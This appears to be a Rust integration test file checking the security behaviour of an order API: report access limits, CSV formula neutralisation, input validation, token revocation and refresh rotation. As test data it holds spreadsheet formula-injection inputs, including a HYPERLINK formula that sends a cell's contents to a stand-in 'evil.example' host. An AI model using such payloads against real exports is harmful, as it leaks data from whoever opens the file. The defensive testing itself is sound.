//! What an attacker or a careless input must not get through (issue "Trust"), black box over
//! HTTP against the real PostgreSQL and Redis: reports leak no other customer's data and cannot
//! be flooded, addresses are plain mailboxes, CSV cells never start a formula, NUL bytes and
//! broken UTF-8 are refused naming the field, requests cannot grow the metrics, tokens stop
//! working on logout, password and role changes, refresh tokens rotate, and a product read shows
//! the stock an order left on every api instance.

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sqlx::PgPool;
use uuid::Uuid;

use crate::helpers::{
    TestApp, TestUser, assert_error, eventually, new_key, order_body, spawn_app, spawn_app_with,
};

const ME: &str = "/api/v1/auth/me";

fn today() -> String {
    chrono::Utc::now().date_naive().to_string()
}

async fn request_report(app: &TestApp, user: &TestUser, kind: &str) -> reqwest::Response {
    app.post_json(
        "/api/v1/reports",
        Some(&user.token),
        &json!({"kind": kind, "from": "2024-01-01", "to": today(), "format": "csv"}),
    )
    .await
}

/// Requests a report as `user`, lets a worker build it, and returns the CSV's lines.
async fn built_report(app: &TestApp, user: &TestUser, kind: &str) -> Vec<Vec<String>> {
    let response = request_report(app, user, kind).await;
    assert_eq!(response.status(), StatusCode::ACCEPTED, "{kind} report");
    let id = response.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let worker = app.start_worker(&["reports"]).await;
    eventually("report ready", Duration::from_secs(30), || async {
        let body: Value = app
            .get(&format!("/api/v1/reports/{id}"), Some(&user.token))
            .await
            .json()
            .await
            .ok()?;
        (body["status"] == "ready").then_some(())
    })
    .await;
    worker.stop().await;
    let download = app
        .get(&format!("/api/v1/reports/{id}/download"), Some(&user.token))
        .await;
    assert_eq!(download.status(), StatusCode::OK);
    let text = download.text().await.expect("csv");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("csv record").iter().map(str::to_owned).collect())
        .collect()
}

async fn one_order(app: &TestApp, customer: &TestUser, product: &Value) {
    let response = app
        .place_order(
            &customer.token,
            &new_key(),
            &order_body(product["id"].as_str().unwrap(), 1),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn customers_get_403_for_the_shop_wide_sales_report(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let customer = app.customer().await;
    let body = assert_error(
        request_report(&app, &customer, "sales").await,
        StatusCode::FORBIDDEN,
    )
    .await;
    assert!(body["message"].as_str().unwrap().contains("my_orders"));
    // A sales report the customer holds from before the rule is refused too.
    let id = Uuid::now_v7();
    sqlx::query(
        "insert into reports (id, user_id, kind, format, from_date, to_date, status, file_key) \
         values ($1, $2, 'sales', 'csv', '2024-01-01', '2024-01-02', 'ready', 'reports/x.csv')",
    )
    .bind(id)
    .bind(customer.id)
    .execute(&pool)
    .await
    .unwrap();
    for path in [
        format!("/api/v1/reports/{id}"),
        format!("/api/v1/reports/{id}/download"),
    ] {
        assert_error(
            app.get(&path, Some(&customer.token)).await,
            StatusCode::FORBIDDEN,
        )
        .await;
    }
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn a_report_not_built_yet_cannot_be_downloaded(pool: PgPool) {
    let app = spawn_app(pool).await;
    let customer = app.customer().await;
    let response = request_report(&app, &customer, "my_orders").await;
    assert_eq!(response.status(), StatusCode::ACCEPTED);
    let id = response.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    // No worker runs: the report stays queued.
    let body = assert_error(
        app.get(
            &format!("/api/v1/reports/{id}/download"),
            Some(&customer.token),
        )
        .await,
        StatusCode::CONFLICT,
    )
    .await;
    assert_eq!(body["message"], "report is queued, not ready");
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn a_customer_export_holds_only_their_own_orders(pool: PgPool) {
    let app = spawn_app(pool).await;
    let admin = app.admin().await;
    let product = app.create_product(&admin, 500, 100).await;
    let ada = app.customer().await;
    let bob = app.customer().await;
    one_order(&app, &ada, &product).await;
    one_order(&app, &bob, &product).await;
    one_order(&app, &bob, &product).await;

    let mine = built_report(&app, &ada, "my_orders").await;
    assert_eq!(mine[0][3], "customer_email", "header {:?}", mine[0]);
    let rows = &mine[1..];
    assert_eq!(rows.len(), 1, "{mine:?}");
    assert!(rows.iter().all(|r| r[3] == ada.email));

    // The shop-wide report, for the admin, has everyone's.
    let all = built_report(&app, &admin, "sales").await;
    assert_eq!(all.len() - 1, 3);
    assert!(all.iter().any(|r| r[3] == bob.email));
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn report_requests_are_capped_per_user(pool: PgPool) {
    let app = spawn_app(pool).await;
    let customer = app.customer().await;
    // No worker runs: every request stays queued.
    for _ in 0..orderly::reports::service::MAX_OPEN_REPORTS_PER_USER {
        let response = request_report(&app, &customer, "my_orders").await;
        assert_eq!(response.status(), StatusCode::ACCEPTED);
    }
    let body = assert_error(
        request_report(&app, &customer, "my_orders").await,
        StatusCode::CONFLICT,
    )
    .await;
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("queued or running"),
        "{body}"
    );
    // Someone else is not affected.
    let other = app.customer().await;
    let response = request_report(&app, &other, "my_orders").await;
    assert_eq!(response.status(), StatusCode::ACCEPTED);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn addresses_with_names_brackets_or_formulas_are_refused(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    for email in [
        "a1<victim@example.com>",
        "Ann <ann@example.com>",
        "=HYPERLINK(\"http://evil.example/?\"&A1)@x.io",
        "\"quoted\"@example.com",
        "ann@example.com, bob@example.com",
    ] {
        let body = assert_error(
            app.register(email, "long enough pw", "Ann").await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(body["details"][0]["field"], "email", "{email}: {body}");
    }
    let users: i64 = sqlx::query_scalar("select count(*) from users")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(users, 0);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn report_cells_that_would_start_a_formula_are_neutralised(pool: PgPool) {
    let app = spawn_app(pool).await;
    let admin = app.admin().await;
    // Both are legal: `=` and `+` are valid in an address's local part.
    let email = "=2+5@example.com";
    assert_eq!(
        app.register(email, "long enough pw", "Formula")
            .await
            .status(),
        StatusCode::CREATED
    );
    let formula = TestUser {
        id: Uuid::nil(),
        email: email.into(),
        password: "long enough pw".into(),
        token: app.login(email, "long enough pw").await,
    };
    let product = app
        .create_product_with(
            &admin,
            &json!({"sku": "FORMULA-1", "name": "@SUM(A1:A9)", "price_cents": 250,
                    "currency": "EUR", "stock": 5}),
        )
        .await;
    one_order(&app, &formula, &product).await;

    let lines = built_report(&app, &admin, "sales").await;
    let row = &lines[1];
    assert_eq!(row[3], "'=2+5@example.com");
    assert_eq!(row[5], "'@SUM(A1:A9)");
    // Numbers stay numbers.
    assert_eq!(row[6], "1");
    assert_eq!(row[7], "250");
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn nul_characters_and_broken_utf8_are_refused_naming_the_field(pool: PgPool) {
    let app = spawn_app(pool).await;
    let admin = app.admin().await;

    for (query, field) in [("q=%00", "q"), ("q=abc%00def", "q"), ("q=%FF", "q")] {
        let body = assert_error(
            app.get(&format!("/api/v1/products?{query}"), None).await,
            StatusCode::BAD_REQUEST,
        )
        .await;
        assert_eq!(body["details"][0]["field"], field, "{query}: {body}");
    }
    let body = assert_error(
        app.get("/api/v1/orders/%00", Some(&admin.token)).await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    assert_eq!(body["details"][0]["field"], "id", "{body}");

    let body = assert_error(
        app.post_json(
            "/api/v1/products",
            Some(&admin.token),
            &json!({"sku": "NUL-1", "name": "Mug", "description": "a\u{0}b",
                    "price_cents": 100, "currency": "EUR", "stock": 1}),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(body["details"][0]["field"], "description", "{body}");

    let body = assert_error(
        app.register("nul@example.com", "long enough pw", "A\u{0}nn")
            .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(body["details"][0]["field"], "name", "{body}");

    // Not UTF-8 at all inside a JSON string.
    let response = app
        .client
        .post(app.url("/api/v1/auth/register"))
        .header("content-type", "application/json")
        .body(
            b"{\"email\":\"a\xff@example.com\",\"password\":\"long enough pw\",\"name\":\"A\"}"
                .to_vec(),
        )
        .send()
        .await
        .unwrap();
    let body = assert_error(response, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["details"][0]["field"], "email", "{body}");

    // A multipart text field.
    let response = app
        .upload(
            Some(&admin.token),
            &[("purpose", "product_import\u{0}")],
            Some(("x.csv", "text/csv", b"sku,name\n".to_vec())),
        )
        .await;
    let body = assert_error(response, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["details"][0]["field"], "purpose", "{body}");
}

async fn metric_lines(app: &TestApp) -> Vec<String> {
    app.get("/metrics", None)
        .await
        .text()
        .await
        .unwrap()
        .lines()
        .filter(|l| l.starts_with("orderly_http_"))
        .map(str::to_owned)
        .collect()
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn made_up_methods_and_paths_add_no_metric_series(pool: PgPool) {
    let app = spawn_app(pool).await;
    let send = |method: String, path: String| {
        let request = app.client.request(
            Method::from_bytes(method.as_bytes()).unwrap(),
            app.url(&path),
        );
        async move { request.send().await.unwrap() }
    };
    // The series such requests may touch: a made-up method counts as `other`, an unmatched
    // path as `unmatched` (other tests' requests in this process cannot add to these).
    let made_up = |lines: Vec<String>| -> Vec<String> {
        lines
            .into_iter()
            .filter(|l| l.contains("method=\"other\"") || l.contains("route=\"unmatched\""))
            .collect()
    };
    // One of each kind first, so the series exist.
    send("M0".into(), "/api/v1/products".into()).await;
    send("GET".into(), format!("/nowhere/{}", Uuid::new_v4())).await;
    let before = made_up(metric_lines(&app).await);
    assert!(!before.is_empty());
    for i in 1..=25 {
        send(format!("M{i}"), "/api/v1/products".into()).await;
        send("GET".into(), format!("/nowhere/{}", Uuid::new_v4())).await;
    }
    let all = metric_lines(&app).await;
    let after = made_up(all.clone());
    assert_eq!(
        before.len(),
        after.len(),
        "series grew:\n{}",
        after.join("\n")
    );
    assert!(
        all.iter().all(|l| !l.contains("method=\"M")),
        "{}",
        all.join("\n")
    );
    assert!(all.iter().all(|l| !l.contains("/nowhere/")));
}

/// Logs in and returns the whole token response.
async fn login_tokens(app: &TestApp, email: &str, password: &str) -> Value {
    let response = app
        .post_json(
            "/api/v1/auth/login",
            None,
            &json!({"email": email, "password": password}),
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    response.json().await.unwrap()
}

async fn status_of_me(app: &TestApp, token: &str) -> StatusCode {
    app.get(ME, Some(token)).await.status()
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn logout_revokes_the_token_on_every_instance(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let other = spawn_app_with(pool, &[("REDIS_PREFIX", &app.prefix)]).await;
    let customer = app.customer().await;
    let tokens = login_tokens(&app, &customer.email, &customer.password).await;
    let access = tokens["access_token"].as_str().unwrap();
    assert_eq!(status_of_me(&other, access).await, StatusCode::OK);

    let response = app
        .post_json("/api/v1/auth/logout", Some(access), &json!({}))
        .await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);
    assert_eq!(status_of_me(&app, access).await, StatusCode::UNAUTHORIZED);
    assert_eq!(status_of_me(&other, access).await, StatusCode::UNAUTHORIZED);
    // The session's refresh token died with it.
    let refresh = app
        .post_json(
            "/api/v1/auth/refresh",
            None,
            &json!({"refresh_token": tokens["refresh_token"]}),
        )
        .await;
    assert_error(refresh, StatusCode::UNAUTHORIZED).await;
    // Another session of the same user is untouched.
    assert_eq!(status_of_me(&app, &customer.token).await, StatusCode::OK);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn revocation_survives_redis_losing_its_keys(pool: PgPool) {
    let app = spawn_app(pool).await;
    let customer = app.customer().await;
    let tokens = login_tokens(&app, &customer.email, &customer.password).await;
    let access = tokens["access_token"].as_str().unwrap();
    app.post_json("/api/v1/auth/logout", Some(access), &json!({}))
        .await;
    // Redis forgets everything it knew about tokens: PostgreSQL still refuses the session.
    let mut redis = app.redis();
    let keys: Vec<String> = redis::cmd("KEYS")
        .arg(format!("{}:auth:*", app.prefix))
        .query_async(&mut redis)
        .await
        .unwrap();
    assert!(!keys.is_empty());
    redis::cmd("DEL")
        .arg(&keys)
        .query_async::<()>(&mut redis)
        .await
        .unwrap();
    assert_eq!(status_of_me(&app, access).await, StatusCode::UNAUTHORIZED);
    assert_eq!(status_of_me(&app, &customer.token).await, StatusCode::OK);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn dashboard_logout_revokes_the_token_as_a_bearer_too(pool: PgPool) {
    let app = spawn_app(pool).await;
    let admin = app.admin().await;
    let cookie = app.dashboard_session(&admin).await;
    let token = cookie
        .split_once('=')
        .map(|(_, v)| v.to_owned())
        .expect("cookie value");
    assert_eq!(status_of_me(&app, &token).await, StatusCode::OK);
    let page = app
        .get_with_cookie("/admin/queues", &cookie)
        .await
        .text()
        .await
        .unwrap();
    let csrf = crate::helpers::hidden_field(&page, "csrf").expect("csrf field");
    let response = app
        .post_form("/admin/logout", &cookie, &[("csrf", &csrf)])
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(status_of_me(&app, &token).await, StatusCode::UNAUTHORIZED);
    let again = app.get_with_cookie("/admin/queues", &cookie).await;
    assert_eq!(
        again.status(),
        StatusCode::SEE_OTHER,
        "the cookie no longer opens the dashboard"
    );
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn a_password_change_revokes_every_earlier_token(pool: PgPool) {
    let app = spawn_app(pool).await;
    let customer = app.customer().await;
    let second = login_tokens(&app, &customer.email, &customer.password).await;

    let wrong = app
        .post_json(
            "/api/v1/users/me/password",
            Some(&customer.token),
            &json!({"current_password": "not it at all", "new_password": "a brand new one"}),
        )
        .await;
    let body = assert_error(wrong, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(body["details"][0]["field"], "current_password");

    let changed = app
        .post_json(
            "/api/v1/users/me/password",
            Some(&customer.token),
            &json!({"current_password": customer.password, "new_password": "a brand new one"}),
        )
        .await;
    assert_eq!(changed.status(), StatusCode::NO_CONTENT);
    for token in [&customer.token, second["access_token"].as_str().unwrap()] {
        assert_eq!(status_of_me(&app, token).await, StatusCode::UNAUTHORIZED);
    }
    let refresh = app
        .post_json(
            "/api/v1/auth/refresh",
            None,
            &json!({"refresh_token": second["refresh_token"]}),
        )
        .await;
    assert_error(refresh, StatusCode::UNAUTHORIZED).await;
    let fresh = app.login(&customer.email, "a brand new one").await;
    assert_eq!(status_of_me(&app, &fresh).await, StatusCode::OK);
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn a_role_change_revokes_the_users_earlier_tokens(pool: PgPool) {
    let app = spawn_app(pool).await;
    let admin = app.admin().await;
    let other_admin = app.admin().await;
    let customer = app.customer().await;

    let promoted = app
        .patch_json(
            &format!("/api/v1/users/{}/role", customer.id),
            Some(&admin.token),
            &json!({"role": "admin"}),
        )
        .await;
    assert_eq!(promoted.status(), StatusCode::OK);
    assert_eq!(
        status_of_me(&app, &customer.token).await,
        StatusCode::UNAUTHORIZED
    );
    let as_admin = app.login(&customer.email, &customer.password).await;
    assert_eq!(
        app.get("/api/v1/webhooks", Some(&as_admin)).await.status(),
        StatusCode::OK
    );

    // Demoting an admin: their admin token stops at once, everywhere.
    let demoted = app
        .patch_json(
            &format!("/api/v1/users/{}/role", other_admin.id),
            Some(&admin.token),
            &json!({"role": "customer"}),
        )
        .await;
    assert_eq!(demoted.status(), StatusCode::OK);
    assert_error(
        app.get("/api/v1/webhooks", Some(&other_admin.token)).await,
        StatusCode::UNAUTHORIZED,
    )
    .await;
    // Giving someone the role they have changes nothing and revokes nothing.
    let same = app
        .patch_json(
            &format!("/api/v1/users/{}/role", admin.id),
            Some(&admin.token),
            &json!({"role": "admin"}),
        )
        .await;
    assert_eq!(same.status(), StatusCode::OK);
    assert_eq!(status_of_me(&app, &admin.token).await, StatusCode::OK);
    // A customer cannot change roles, and an admin cannot demote themselves.
    assert_error(
        app.patch_json(
            &format!("/api/v1/users/{}/role", customer.id),
            Some(&app.customer().await.token),
            &json!({"role": "admin"}),
        )
        .await,
        StatusCode::FORBIDDEN,
    )
    .await;
    assert_error(
        app.patch_json(
            &format!("/api/v1/users/{}/role", admin.id),
            Some(&admin.token),
            &json!({"role": "customer"}),
        )
        .await,
        StatusCode::CONFLICT,
    )
    .await;
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn refresh_tokens_rotate_and_a_replayed_one_ends_the_session(pool: PgPool) {
    let app = spawn_app(pool).await;
    let customer = app.customer().await;
    let first = login_tokens(&app, &customer.email, &customer.password).await;
    assert!(first["expires_in"].as_u64().unwrap() <= 86_400);

    let refresh = |token: Value| {
        let app = &app;
        async move {
            app.post_json(
                "/api/v1/auth/refresh",
                None,
                &json!({"refresh_token": token}),
            )
            .await
        }
    };
    let second = refresh(first["refresh_token"].clone()).await;
    assert_eq!(second.status(), StatusCode::OK);
    let second: Value = second.json().await.unwrap();
    assert_ne!(second["refresh_token"], first["refresh_token"]);
    let second_access = second["access_token"].as_str().unwrap();
    assert_eq!(status_of_me(&app, second_access).await, StatusCode::OK);

    // The first refresh token again: someone kept a copy. The whole session ends, the newest
    // refresh token and its access token included.
    assert_error(
        refresh(first["refresh_token"].clone()).await,
        StatusCode::UNAUTHORIZED,
    )
    .await;
    assert_error(
        refresh(second["refresh_token"].clone()).await,
        StatusCode::UNAUTHORIZED,
    )
    .await;
    assert_eq!(
        status_of_me(&app, second_access).await,
        StatusCode::UNAUTHORIZED
    );
    // Garbage is the same 401.
    assert_error(
        refresh(json!("not-a-token")).await,
        StatusCode::UNAUTHORIZED,
    )
    .await;
}

async fn stock(app: &TestApp, path: &str) -> Option<i64> {
    app.get(path, None).await.json::<Value>().await.unwrap()["stock"].as_i64()
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn a_product_read_shows_the_stock_an_order_left_on_every_instance(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let other = spawn_app_with(pool, &[("REDIS_PREFIX", &app.prefix)]).await;
    let admin = app.admin().await;
    let customer = app.customer().await;
    let product = app.create_product(&admin, 700, 3).await;
    let id = product["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/products/{id}");
    // Both instances have it cached (in Redis and in their near caches).
    for _ in 0..3 {
        assert_eq!(stock(&app, &path).await, Some(3));
        assert_eq!(stock(&other, &path).await, Some(3));
    }
    let placed = app
        .place_order(&customer.token, &new_key(), &order_body(&id, 2))
        .await;
    assert_eq!(placed.status(), StatusCode::CREATED);
    // The instance that took the order answers with the new stock at once; the other within
    // the moment Redis takes to tell it.
    assert_eq!(stock(&app, &path).await, Some(1));
    eventually(
        "the other instance sees the new stock",
        Duration::from_secs(2),
        || async { (stock(&other, &path).await == Some(1)).then_some(()) },
    )
    .await;
    // A cancellation gives the stock back, visibly too.
    let order: Value = placed.json().await.unwrap();
    let cancelled = app
        .post_json(
            &format!("/api/v1/orders/{}/cancel", order["id"].as_str().unwrap()),
            Some(&customer.token),
            &json!({}),
        )
        .await;
    assert_eq!(cancelled.status(), StatusCode::OK);
    assert_eq!(stock(&app, &path).await, Some(3));
}

#[sqlx::test(migrator = "orderly::db::MIGRATOR")]
async fn password_change_guesses_spend_the_accounts_login_budget(pool: PgPool) {
    let app = spawn_app_with(pool, &[("LOGIN_MAX_FAILURES", "3")]).await;
    let customer = app.customer().await;
    let guess = |password: &'static str| {
        let body = json!({"current_password": password, "new_password": "a brand new one"});
        let request = app
            .client
            .post(app.url("/api/v1/users/me/password"))
            .bearer_auth(&customer.token)
            .json(&body);
        async move { request.send().await.unwrap() }
    };
    // The login spent one attempt and gave it back; three wrong guesses spend the budget.
    for _ in 0..3 {
        assert_eq!(
            guess("wrong guess").await.status(),
            StatusCode::UNPROCESSABLE_ENTITY
        );
    }
    let response = guess("customer-password").await;
    assert!(response.headers().contains_key("retry-after"));
    assert_error(response, StatusCode::TOO_MANY_REQUESTS).await;
}
